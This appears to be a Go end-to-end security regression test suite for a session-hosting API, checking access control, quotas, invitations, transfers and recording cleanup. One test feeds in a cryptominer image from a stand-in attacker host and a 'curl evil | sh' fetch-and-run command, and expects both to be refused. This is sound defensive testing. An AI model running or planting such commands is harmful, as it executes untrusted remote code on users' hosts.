package e2e

import (
	"context"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/coder/websocket"

	"streamspace/internal/apikeys"
	"streamspace/internal/connections"
	"streamspace/internal/local/stack"
	"streamspace/internal/recordings"
	"streamspace/internal/sessions"
	"streamspace/internal/sharing"
	"streamspace/internal/testenv"
)

// Regressions for the December 2026 security review (../shared/reviews/security-2026-12.md):
// each test failed before its fix.

// SEC-07: replaying POST /sessions after losing access to the session answers 404, not the
// session as it now is.
func TestSEC07IdempotentReplayChecksAccess(t *testing.T) {
	e := testenv.Start(t)
	alice, bob := e.Token("alice", ""), e.Token("bob", "")
	seen(t, e, bob)
	body := map[string]any{"templateName": "terminal"}
	var s session
	e.Do("POST", "/api/v1/sessions", alice, body, "Idempotency-Key", "k-sec07").Want(t, 201).Decode(t, &s)
	e.Do("POST", "/api/v1/sessions", alice, body, "Idempotency-Key", "k-sec07").Want(t, 201) // still hers: replayed
	transfer(t, e, s.ID, alice, "bob", bob)
	e.Do("POST", "/api/v1/sessions", alice, body, "Idempotency-Key", "k-sec07").Want(t, 404)
}

// SEC-17: a token in the query string opens nothing on the HTTP API (it is only for the
// WebSocket handshake, where browsers cannot set headers).
func TestSEC17NoTokensInHTTPQueryStrings(t *testing.T) {
	e := testenv.Start(t)
	alice := e.Token("alice", "")
	e.Do("GET", "/api/v1/users/me?token="+alice, "", nil).Want(t, 401)
	e.Do("GET", "/api/v1/users/me", alice, nil).Want(t, 200)
	e.MustDialWS(alice, nil) // the WebSocket still takes ?token=
}

// SEC-12: a view-level reader of the activity log sees neither where people were (IP address,
// User-Agent) nor whom the session is shared with; the owner sees both.
func TestSEC12ActivityHidesPeopleFromViewers(t *testing.T) {
	e := testenv.Start(t)
	alice, carol := e.Token("alice", ""), e.Token("carol", "")
	seen(t, e, carol)
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	p := "/api/v1/sessions/" + s.ID
	e.Do("PUT", p+"/tags", alice, map[string]any{"tags": []string{"x"}}, "User-Agent", "AliceLaptop/1.0 (private device id 1234)").Want(t, 200)
	e.Do("POST", p+"/share", alice, map[string]string{"sharedWithUserId": "carol", "permissionLevel": "view"}).Want(t, 201)
	waitActivity(t, e, alice, p+"/activity/timeline", 4)
	for _, route := range []string{p + "/activity?limit=100", p + "/activity/timeline?limit=100"} {
		owner := string(e.Do("GET", route, alice, nil).Want(t, 200).Body)
		viewer := string(e.Do("GET", route, carol, nil).Want(t, 200).Body)
		if !strings.Contains(owner, "AliceLaptop") || !strings.Contains(owner, `"sharedWithUserId":"carol"`) {
			t.Fatalf("%s: the owner should see the details: %s", route, owner)
		}
		for _, private := range []string{"AliceLaptop", `"ip":`, `"sharedWithUserId"`, "shared with carol"} {
			if strings.Contains(viewer, private) {
				t.Errorf("%s: a view-level reader sees %s", route, private)
			}
		}
	}
}

// SEC-14: the usage log of an API key records the route with its secret parameters left out:
// an invitation token accepted with a key is not kept, nor shown.
func TestSEC14UsageLogKeepsNoInvitationToken(t *testing.T) {
	e := testenv.Start(t)
	alice, bob := e.Token("alice", ""), e.Token("bob", "")
	seen(t, e, bob)
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	var inv struct{ Token string }
	e.Do("POST", "/api/v1/sessions/"+s.ID+"/invitations", alice, map[string]any{"permissionLevel": "view", "maxUses": 2}).Want(t, 201).Decode(t, &inv)
	var key struct{ ID, Key string }
	e.Do("POST", "/api/v1/api-keys", bob, map[string]any{"name": "k", "scopes": []string{"sharing:write", "sessions:read"}}).Want(t, 201).Decode(t, &key)
	e.Do("POST", "/api/v1/invitations/"+inv.Token+"/accept", key.Key, nil).Want(t, 200)
	var usage struct {
		RecentRequests []struct{ Path, Route string }
	}
	waitUntil(t, 10*time.Second, "the accept is in the usage log", func() bool {
		e.Do("GET", "/api/v1/api-keys/"+key.ID+"/usage", bob, nil).Want(t, 200).Decode(t, &usage)
		return len(usage.RecentRequests) > 0
	})
	body := string(e.Do("GET", "/api/v1/api-keys/"+key.ID+"/usage", bob, nil).Want(t, 200).Body)
	if strings.Contains(body, inv.Token) || usage.RecentRequests[0].Path != "/api/v1/invitations/{token}/accept" {
		t.Fatalf("usage log: %s", body)
	}
}

// SEC-03: invitations are no backdoor. A team admin cannot accept his own invitation; one who
// lost the team loses what his invitations would grant; the previous owner's invitations end
// with a transfer; and whoever manages the session now revokes any invitation by its id.
func TestSEC03InvitationsAreNoBackdoor(t *testing.T) {
	e := testenv.Start(t)
	alice, bob, carol := e.Token("alice", ""), e.Token("bob", ""), e.Token("carol", "")
	seen(t, e, bob, carol)
	tm := newTeam(t, e, alice, "sec03")
	e.Do("POST", "/api/v1/teams/"+tm.ID+"/members", alice, map[string]string{"userId": "bob", "role": "admin"}).Want(t, 201)
	s := create(t, e, alice, map[string]any{"templateName": "terminal", "teamId": tm.ID})
	p := "/api/v1/sessions/" + s.ID
	invite := func(tok string) (string, string) {
		var inv struct{ ID, Token string }
		e.Do("POST", p+"/invitations", tok, map[string]any{"permissionLevel": "control", "maxUses": 10}).Want(t, 201).Decode(t, &inv)
		return inv.ID, inv.Token
	}
	_, bobs := invite(bob)
	e.Do("POST", "/api/v1/invitations/"+bobs+"/accept", bob, nil).Want(t, 409) // his own
	e.Do("DELETE", "/api/v1/teams/"+tm.ID+"/members/bob", alice, nil).Want(t, 204)
	e.Do("POST", "/api/v1/invitations/"+bobs+"/accept", carol, nil).Want(t, 410) // bob may no longer share
	e.Do("GET", p, carol, nil).Want(t, 404)

	// Transfer: alice's old invitations end; bob, the new owner, revokes one by id.
	e.Do("POST", "/api/v1/teams/"+tm.ID+"/members", alice, map[string]string{"userId": "bob", "role": "member"}).Want(t, 201)
	oldID, old := invite(alice)
	transfer(t, e, s.ID, alice, "bob", bob)
	e.Do("POST", "/api/v1/invitations/"+old+"/accept", carol, nil).Want(t, 410)
	e.Do("DELETE", p+"/invitations/"+oldID, carol, nil).Want(t, 404) // not hers to see
	e.Do("DELETE", p+"/invitations/"+oldID, bob, nil).Want(t, 204)
	e.Do("DELETE", p+"/invitations/"+oldID, alice, nil).Want(t, 409) // the team's owner manages it too: already revoked
	e.Do("DELETE", p+"/invitations/inv_00000000000000000000000000", bob, nil).Want(t, 404)
	newID, fresh := invite(bob)
	e.Do("POST", "/api/v1/invitations/"+fresh+"/accept", carol, nil).Want(t, 200)
	e.Do("GET", p, carol, nil).Want(t, 200)
	_ = newID
}

// SEC-11: client input never makes the activity area answer 500: a cursor outside the
// listing's since/until window, and metadata JSON accepts but DynamoDB cannot store, are 400s
// that name the field.
func TestSEC11ActivityInputIsNever500(t *testing.T) {
	e := testenv.Start(t)
	alice := e.Token("alice", "")
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	p := "/api/v1/sessions/" + s.ID
	for i := 0; i < 3; i++ {
		e.Do("POST", p+"/activity/log", alice, map[string]any{"eventType": "user.heartbeat"}).Want(t, 201)
	}
	var page struct{ NextCursor string }
	e.Do("GET", p+"/activity?limit=1", alice, nil).Want(t, 200).Decode(t, &page)
	if page.NextCursor == "" {
		t.Fatal("no cursor to reuse")
	}
	for _, q := range []string{"since=2099-01-01T00:00:00Z", "until=2000-01-01T00:00:00Z"} {
		for _, route := range []string{p + "/activity", p + "/activity/timeline", "/api/v1/activity/users/alice"} {
			r := e.Do("GET", route+"?limit=1&"+q+"&cursor="+page.NextCursor, alice, nil)
			if r.Status != 400 || !strings.Contains(string(r.Body), "cursor") {
				t.Errorf("%s with %s and an old cursor: %d %s, want 400 naming cursor", route, q, r.Status, r.Body)
			}
		}
	}
	for _, meta := range []string{`{"n":1e200}`, `{"n":1e-200}`, `{"":"x"}`, strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40)} {
		r := e.Do("POST", p+"/activity/log", alice, `{"eventType":"user.heartbeat","metadata":`+meta+`}`)
		if r.Status != 400 || !strings.Contains(string(r.Body), "metadata") {
			t.Errorf("metadata %.30s: %d %s, want 400 naming metadata", meta, r.Status, r.Body)
		}
	}
}

// SEC-06: a WebSocket opened with an API key needs the key's sessions:read scope, and revoking
// the key closes its connections (within 5 s) while the owner's other connections stay.
func TestSEC06KeyWebSocketsHonourScopesAndRevocation(t *testing.T) {
	e := testenv.Start(t)
	alice := e.Token("alice", "")
	var narrow, key struct{ ID, Key string }
	e.Do("POST", "/api/v1/api-keys", alice, map[string]any{"name": "teams", "scopes": []string{"teams:read"}}).Want(t, 201).Decode(t, &narrow)
	e.Do("POST", "/api/v1/api-keys", alice, map[string]any{"name": "events", "scopes": []string{"sessions:read"}}).Want(t, 201).Decode(t, &key)
	if _, status, err := e.DialWS(narrow.Key, nil); err == nil || status != 403 {
		t.Fatalf("a teams:read key's WebSocket: status %d %v, want 403", status, err)
	}
	viaKey := e.MustDialWS(key.Key, nil)
	viaToken := e.MustDialWS(alice, nil)
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	viaKey.Expect("session.created", s.ID, 5*time.Second)
	viaToken.Expect("session.created", s.ID, 5*time.Second)

	e.Do("POST", "/api/v1/api-keys/"+key.ID+"/revoke", alice, nil).Want(t, 200)
	start := time.Now()
	closed := false
	for !closed && time.Since(start) < 20*time.Second {
		select {
		case _, ok := <-viaKey.Msgs:
			closed = !ok
		case <-time.After(100 * time.Millisecond):
		}
	}
	if !closed {
		t.Fatalf("the revoked key's WebSocket still open %s after the revoke", time.Since(start))
	}
	testenv.Target(t, "the revoked key's WebSocket closed", time.Since(start), 5*time.Second)
	e.Do("PUT", "/api/v1/sessions/"+s.ID+"/tags", alice, map[string]any{"tags": []string{"after"}}).Want(t, 200)
	viaToken.Expect("session.tags.updated", s.ID, 5*time.Second)
}

// SEC-20: a control share may change and hibernate a session but not end it (DELETE's right),
// and the version route does not name the toolchain.
func TestSEC20ControlShareCannotTerminateAndVersionIsQuiet(t *testing.T) {
	e := testenv.Start(t)
	alice, bob := e.Token("alice", ""), e.Token("bob", "")
	seen(t, e, bob)
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	p := "/api/v1/sessions/" + s.ID
	e.Do("POST", p+"/share", alice, map[string]string{"sharedWithUserId": "bob", "permissionLevel": "control"}).Want(t, 201)
	e.Do("PATCH", p, bob, map[string]any{"idleTimeout": 900}).Want(t, 200)
	e.Do("PATCH", p, bob, map[string]string{"desiredState": "terminated"}).Want(t, 403)
	e.Do("DELETE", p, bob, nil).Want(t, 403)
	e.Do("PATCH", p, alice, map[string]string{"desiredState": "terminated"}).Want(t, 200)
	if body := string(e.Do("GET", "/api/v1/version", "", nil).Want(t, 200).Body); strings.Contains(body, "go1.") {
		t.Fatalf("version names the toolchain: %s", body)
	}
}

// U-2 / SEC-09: one user's WebSocket connections are bounded (whatever they listen to), with a
// clear refusal; closing one makes room.
func TestWebSocketConnectionsPerUserAreBounded(t *testing.T) {
	e := testenv.Start(t)
	alice := e.Token("alice", "")
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	var open []*testenv.WS
	for i := 0; i < connections.MaxPerUser; i++ {
		q := url.Values{}
		if i%2 == 1 {
			q.Set("session_id", s.ID)
		}
		open = append(open, e.MustDialWS(alice, q))
	}
	if _, status, err := e.DialWS(alice, nil); err == nil || status != 429 {
		t.Fatalf("connection %d: status %d %v, want 429", connections.MaxPerUser+1, status, err)
	}
	e.MustDialWS(e.Token("bob", ""), nil) // others are not affected
	open[0].Conn.Close(websocket.StatusNormalClosure, "")
	waitUntil(t, 5*time.Second, "a closed connection makes room", func() bool {
		ws, _, err := e.DialWS(alice, nil)
		if err == nil {
			ws.Conn.Close(websocket.StatusNormalClosure, "")
		}
		return err == nil
	})
}

// SEC-20: a user's API keys are bounded (each carries its own hourly limit); deleting one makes
// room.
func TestAPIKeysPerUserAreBounded(t *testing.T) {
	e := testenv.Start(t)
	alice := e.Token("alice", "")
	var first struct{ ID string }
	for i := 0; i < apikeys.MaxKeysPerUser; i++ {
		r := e.Do("POST", "/api/v1/api-keys", alice, map[string]any{"name": fmt.Sprintf("k%d", i)}).Want(t, 201)
		if i == 0 {
			r.Decode(t, &first)
		}
	}
	r := e.Do("POST", "/api/v1/api-keys", alice, map[string]any{"name": "one too many"})
	if r.Status != 409 || !strings.Contains(string(r.Body), "at most") {
		t.Fatalf("key %d: %d %s, want 409", apikeys.MaxKeysPerUser+1, r.Status, r.Body)
	}
	e.Do("POST", "/api/v1/api-keys", e.Token("bob", ""), map[string]any{"name": "bob's"}).Want(t, 201)
	e.Do("DELETE", "/api/v1/api-keys/"+first.ID, alice, nil).Want(t, 204)
	e.Do("POST", "/api/v1/api-keys", alice, map[string]any{"name": "room again"}).Want(t, 201)
}

// SEC-09/SEC-20: a session's open invitations are bounded; revoking one makes room.
func TestOpenInvitationsPerSessionAreBounded(t *testing.T) {
	e := testenv.Start(t)
	alice := e.Token("alice", "")
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	p := "/api/v1/sessions/" + s.ID + "/invitations"
	var first struct{ ID string }
	for i := 0; i < sharing.MaxOpenInvitations; i++ {
		r := e.Do("POST", p, alice, map[string]any{"permissionLevel": "view"}).Want(t, 201)
		if i == 0 {
			r.Decode(t, &first)
		}
	}
	e.Do("POST", p, alice, map[string]any{"permissionLevel": "view"}).Want(t, 409)
	e.Do("DELETE", p+"/"+first.ID, alice, nil).Want(t, 204)
	e.Do("POST", p, alice, map[string]any{"permissionLevel": "view"}).Want(t, 201)
}

// transfer gives session id from one user to another through an offer the recipient accepts.
func transfer(t *testing.T, e *testenv.Env, id, fromTok, to, toTok string) {
	t.Helper()
	e.Do("POST", "/api/v1/sessions/"+id+"/transfer", fromTok, map[string]string{"newOwnerUserId": to}).Want(t, 202)
	e.Do("POST", "/api/v1/sessions/"+id+"/transfer/accept", toTok, nil).Want(t, 200)
}

// SEC-15: a transfer is an offer: nothing moves and no quota is used until the recipient
// accepts, so unsolicited transfers cannot fill anyone's quota. The recipient hears of it, may
// decline, the owner may cancel, only the recipient accepts, and a full quota refuses the accept.
func TestSEC15TransferNeedsRecipientConsent(t *testing.T) {
	e := testenv.Start(t)
	alice, bob, carol := e.Token("alice", ""), e.Token("bob", ""), e.Token("carol", "")
	seen(t, e, bob, carol)
	bws := e.MustDialWS(bob, nil)
	var ids []string
	for i := 0; i < 5; i++ { // the default quota: 5 live sessions
		s := create(t, e, alice, map[string]any{"templateName": "terminal"})
		var got session
		e.Do("POST", "/api/v1/sessions/"+s.ID+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 202).Decode(t, &got)
		if got.OwnerID != "alice" {
			t.Fatalf("an offer moved the session to %s", got.OwnerID)
		}
		ids = append(ids, s.ID)
	}
	bws.Expect("session.transfer.offered", ids[0], wait)
	own := create(t, e, bob, map[string]any{"templateName": "terminal"}) // bob's quota is untouched
	p := "/api/v1/sessions/" + ids[0]
	e.Do("GET", p, bob, nil).Want(t, 404)                        // an offer shows nothing of the session
	e.Do("POST", p+"/transfer/accept", carol, nil).Want(t, 404)  // not hers
	e.Do("POST", p+"/transfer/decline", carol, nil).Want(t, 404) // not hers
	e.Do("POST", p+"/transfer/accept", alice, nil).Want(t, 404)  // the owner accepts nothing
	e.Do("POST", p+"/transfer/decline", bob, nil).Want(t, 204)
	e.Do("POST", p+"/transfer/accept", bob, nil).Want(t, 404) // declined
	e.Do("DELETE", "/api/v1/sessions/"+ids[1]+"/transfer", alice, nil).Want(t, 204)
	e.Do("DELETE", "/api/v1/sessions/"+ids[1]+"/transfer", alice, nil).Want(t, 404)
	e.Do("POST", "/api/v1/sessions/"+ids[1]+"/transfer/accept", bob, nil).Want(t, 404) // cancelled
	for _, id := range ids[2:] {
		e.Do("POST", "/api/v1/sessions/"+id+"/transfer/accept", bob, nil).Want(t, 200)
	}
	// bob now has 4 live sessions: one more fits, the next accept is refused and changes nothing.
	e.Do("POST", "/api/v1/sessions/"+ids[0]+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 202)
	e.Do("POST", "/api/v1/sessions/"+ids[0]+"/transfer/accept", bob, nil).Want(t, 200)
	last := create(t, e, alice, map[string]any{"templateName": "terminal"})
	e.Do("POST", "/api/v1/sessions/"+last.ID+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 202)
	e.Do("POST", "/api/v1/sessions/"+last.ID+"/transfer/accept", bob, nil).Want(t, 403)
	e.Do("DELETE", "/api/v1/sessions/"+own.ID, bob, nil).Want(t, 200)
	var got session
	e.Do("POST", "/api/v1/sessions/"+last.ID+"/transfer/accept", bob, nil).Want(t, 200).Decode(t, &got)
	if got.OwnerID != "bob" {
		t.Fatalf("owner after accept: %s", got.OwnerID)
	}
	e.Do("GET", "/api/v1/sessions/"+last.ID, alice, nil).Want(t, 404)

	// An offer is only as good as its maker's right to transfer at the accept: a team admin
	// removed from the team since cannot hand the team's session to anyone (as SEC-03).
	tm := newTeam(t, e, alice, "sec15")
	e.Do("POST", "/api/v1/teams/"+tm.ID+"/members", alice, map[string]string{"userId": "bob", "role": "admin"}).Want(t, 201)
	ts := create(t, e, alice, map[string]any{"templateName": "terminal", "teamId": tm.ID})
	e.Do("POST", "/api/v1/sessions/"+ts.ID+"/transfer", bob, map[string]string{"newOwnerUserId": "carol"}).Want(t, 202)
	e.Do("DELETE", "/api/v1/teams/"+tm.ID+"/members/bob", alice, nil).Want(t, 204)
	e.Do("POST", "/api/v1/sessions/"+ts.ID+"/transfer/accept", carol, nil).Want(t, 410)
	e.Do("GET", "/api/v1/sessions/"+ts.ID, carol, nil).Want(t, 404)
}

// SEC-16: a recording's object lives as long as its record: removed with it, by DELETE or by
// the record's TTL (the auditor deletes the object of every removed recording item). Uploads are
// bounded (a signed maximum the store enforces), dead once the recording is completed or
// deleted, and what completes is what was stored. A session has at most MaxPerSession recordings.
func TestSEC16RecordingObjectsFollowTheirRecords(t *testing.T) {
	e := testenv.Start(t)
	alice := e.Token("alice", "")
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	p := "/api/v1/sessions/" + s.ID + "/recordings"
	newRec := func() uploadable {
		var u uploadable
		e.Do("POST", p, alice, map[string]any{"type": "video", "format": "webm", "retentionDays": 1}).Want(t, 201).Decode(t, &u)
		if u.UploadMethod != "POST" || u.UploadMaxBytes != recordings.MaxUploadBytes || u.UploadFields["max"] == "" {
			t.Fatalf("upload form: %+v", u)
		}
		return u
	}
	stored := func(u uploadable) bool {
		_, err := os.Stat(filepath.Join(e.Objects.Dir, filepath.FromSlash(u.Recording.StorageKey)))
		return err == nil
	}
	content := []byte("a short recording")

	// Completing needs the object, and takes its size from it.
	done := newRec()
	rp := p + "/" + done.Recording.ID
	e.Do("PATCH", rp, alice, map[string]any{"status": "completed"}).Want(t, 409) // nothing uploaded
	if st := done.upload(t, content); st != 204 {
		t.Fatalf("upload: %d", st)
	}
	e.Do("PATCH", rp, alice, map[string]any{"status": "completed", "sizeBytes": 5}).Want(t, 409)
	var got struct{ Recording recording }
	e.Do("PATCH", rp, alice, map[string]any{"status": "completed"}).Want(t, 200).Decode(t, &got)
	if got.Recording.SizeBytes != int64(len(content)) {
		t.Fatalf("completed with size %d, stored %d", got.Recording.SizeBytes, len(content))
	}
	if st := done.upload(t, []byte("replaced after completion")); st != 403 {
		t.Fatalf("upload after completion: %d, want 403", st)
	}
	// A signed bound cannot be raised.
	forged := done
	forged.UploadFields = map[string]string{}
	for k, v := range done.UploadFields {
		forged.UploadFields[k] = v
	}
	forged.UploadFields["max"] = "99999999999"
	if st := forged.upload(t, content); st != 403 {
		t.Fatalf("upload with a raised bound: %d, want 403", st)
	}

	// DELETE: the object goes, and the form cannot bring it back as an orphan.
	e.Do("DELETE", rp, alice, nil).Want(t, 204)
	if st := done.upload(t, content); st != 403 || stored(done) {
		t.Fatalf("upload after delete: %d (stored again: %v)", st, stored(done))
	}

	// The record's TTL removes the item without the API: the object follows.
	expiring := newRec()
	if st := expiring.upload(t, content); st != 204 {
		t.Fatalf("upload: %d", st)
	}
	if err := e.App.RecordingStore().Delete(context.Background(), s.ID, expiring.Recording.ID); err != nil { // as the TTL does
		t.Fatal(err)
	}
	waitUntil(t, 10*time.Second, "the expired recording's object is deleted", func() bool { return !stored(expiring) })

	// At most MaxPerSession recordings per session.
	for i := 0; i < recordings.MaxPerSession; i++ {
		e.Do("POST", p, alice, map[string]any{"type": "log", "format": "txt"}).Want(t, 201)
	}
	e.Do("POST", p, alice, map[string]any{"type": "log", "format": "txt"}).Want(t, 409)
}

// SEC-18: viewers keep no session alive and the count of viewers is true. Tickets issued but
// never opened count as nobody; a view-only viewer's open does not move lastActivity; and an open
// connection whose item expires by TTL (a gateway that died without closing it) stops counting
// at the scheduler's next recount.
func TestSEC18ViewersKeepNothingAliveAndCountTrue(t *testing.T) {
	e := startLocal(t)
	alice, carol := e.Token("alice", ""), e.Token("carol", "")
	seen(t, e, carol)
	s := runningTerminal(t, e, alice, map[string]any{"idleTimeout": 3600})
	p := "/api/v1/sessions/" + s.ID
	e.Do("POST", p+"/share", alice, map[string]string{"sharedWithUserId": "carol", "permissionLevel": "view"}).Want(t, 201)
	var before, got struct {
		ActiveConnections int
		LastActivity      time.Time
	}
	e.Do("GET", p, alice, nil).Want(t, 200).Decode(t, &before)
	for i := 0; i < 5; i++ {
		connectURL(t, e, carol, s.ID) // issued, never opened
	}
	v := openViewer(t, e, carol, s.ID)
	_ = v
	e.Do("GET", p, alice, nil).Want(t, 200).Decode(t, &got)
	if got.ActiveConnections != before.ActiveConnections+1 || !got.LastActivity.Equal(before.LastActivity) {
		t.Fatalf("after 5 unused tickets and one view-only open: %+v, before %+v", got, before)
	}
	// The connection's item goes as its TTL would take it: nobody lowers the count but the recount.
	out, err := e.App.DB.Query(context.Background(), &dynamodb.QueryInput{TableName: &e.App.Cfg.Tables.Main,
		KeyConditionExpression: aws.String("PK = :pk AND begins_with(SK, :c)"),
		ExpressionAttributeValues: map[string]types.AttributeValue{":pk": &types.AttributeValueMemberS{Value: "SESSION#" + s.ID},
			":c": &types.AttributeValueMemberS{Value: "CONN#"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range out.Items {
		if _, err := e.App.DB.DeleteItem(context.Background(), &dynamodb.DeleteItemInput{TableName: &e.App.Cfg.Tables.Main,
			Key: map[string]types.AttributeValue{"PK": it["PK"], "SK": it["SK"]}}); err != nil {
			t.Fatal(err)
		}
	}
	if sum, err := e.RunScheduler(context.Background(), time.Now().Add(sessions.ConnectionsRecount+time.Minute)); err != nil || sum.Recounted != 1 {
		t.Fatalf("recount run: %+v, %v", sum, err)
	}
	e.Do("GET", p, alice, nil).Want(t, 200).Decode(t, &got)
	if got.ActiveConnections != 0 {
		t.Fatalf("activeConnections after its connection expired: %d", got.ActiveConnections)
	}
}

// SEC-20: operators edit templates' metadata, but what runs in everyone's sessions (image) and on
// the host of the local stack (localCommand) is set and changed by admins only.
func TestSEC20OnlyAdminsChooseWhatTemplatesRun(t *testing.T) {
	e := testenv.Start(t)
	op, admin := e.Token("olga", "operator"), e.Token("root", "admin")
	tpl := map[string]any{"name": "sec20-app", "displayName": "App", "category": "Test", "image": "registry.example/app:1",
		"localCommand": "xterm", "defaultResources": map[string]string{"cpu": "1", "memory": "1Gi"}}
	e.Do("POST", "/api/v1/templates", op, tpl).Want(t, 403)
	e.Do("POST", "/api/v1/templates", admin, tpl).Want(t, 201)
	p := "/api/v1/templates/sec20-app"
	tpl["displayName"], tpl["description"] = "App 2", "metadata is the operators'"
	e.Do("PUT", p, op, tpl).Want(t, 200)
	tpl["image"] = "attacker.example/miner:latest"
	e.Do("PUT", p, op, tpl).Want(t, 403)
	tpl["image"], tpl["localCommand"] = "registry.example/app:1", "sh -c 'curl evil | sh'"
	e.Do("PUT", p, op, tpl).Want(t, 403)
	var got struct{ Image, LocalCommand, DisplayName string }
	e.Do("GET", p, op, nil).Want(t, 200).Decode(t, &got)
	if got.Image != "registry.example/app:1" || got.LocalCommand != "xterm" || got.DisplayName != "App 2" {
		t.Fatalf("template after the operator's edits: %+v", got)
	}
	tpl["image"], tpl["localCommand"] = "registry.example/app:2", "xterm -e top"
	e.Do("PUT", p, admin, tpl).Want(t, 200)
}

// SEC-05: with self sign-up on (REQUIRE_ROLE_GRANT), a user who only signed in has a quota of
// zero sessions until an administrator grants a role; a role from the identity provider counts
// as granted. Without the setting nothing changes (every other test).
func TestSEC05NewUsersRunNothingUntilGranted(t *testing.T) {
	e := testenv.Start(t, func(c *stack.Config) { c.RequireRoleGrant = true })
	newbie, grouped, admin, alice := e.Token("newbie", ""), e.Token("grouped", "user"), e.Token("admin", ""), e.Token("alice", "")
	seen(t, e, newbie, alice)
	r := e.Do("POST", "/api/v1/sessions", newbie, map[string]any{"templateName": "terminal"}).Want(t, 403)
	if !strings.Contains(string(r.Body), "quota-exceeded") || !strings.Contains(string(r.Body), "grants it a role") {
		t.Fatalf("refusal %s, want a quota-exceeded problem that says why", r.Body)
	}
	var listed struct{ Items []session }
	e.Do("GET", "/api/v1/sessions", newbie, nil).Want(t, 200).Decode(t, &listed)
	if len(listed.Items) != 0 {
		t.Fatalf("a refused create left %d sessions", len(listed.Items))
	}
	// Nor can a session arrive by transfer.
	e.Do("PUT", "/api/v1/users/alice/role", admin, map[string]string{"role": "user"}).Want(t, 200)
	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
	e.Do("POST", "/api/v1/sessions/"+s.ID+"/transfer", alice, map[string]string{"newOwnerUserId": "newbie"}).Want(t, 202)
	e.Do("POST", "/api/v1/sessions/"+s.ID+"/transfer/accept", newbie, nil).Want(t, 403)
	// A group from the identity provider is a grant; so is the admin's.
	create(t, e, grouped, map[string]any{"templateName": "terminal"})
	var u struct {
		RoleGrantedAt *time.Time `json:"roleGrantedAt"`
	}
	e.Do("PUT", "/api/v1/users/newbie/role", admin, map[string]string{"role": "user"}).Want(t, 200).Decode(t, &u)
	if u.RoleGrantedAt == nil {
		t.Fatal("the grant is not recorded (roleGrantedAt)")
	}
	e.Do("POST", "/api/v1/sessions/"+s.ID+"/transfer/accept", newbie, nil).Want(t, 200)
	create(t, e, newbie, map[string]any{"templateName": "terminal"})
}

// A user's first session is held to the quota too: with no counters stored yet, a session
// larger than the user's limits used to be accepted (the condition let a missing counter pass).
func TestFirstSessionCannotExceedTheQuota(t *testing.T) {
	e := testenv.Start(t, func(c *stack.Config) {
		c.Limits = sessions.Limits{MaxSessions: 2, MaxCPUMillis: 1000, MaxMemoryMiB: 1024}
	})
	alice := e.Token("alice", "")
	r := e.Do("POST", "/api/v1/sessions", alice, map[string]any{"templateName": "terminal",
		"resources": map[string]string{"cpu": "500m", "memory": "2Gi"}}).Want(t, 403)
	if !strings.Contains(string(r.Body), "quota-exceeded") {
		t.Fatalf("refusal %s, want quota-exceeded", r.Body)
	}
	create(t, e, alice, map[string]any{"templateName": "terminal", "resources": map[string]string{"cpu": "500m", "memory": "512Mi"}})
}
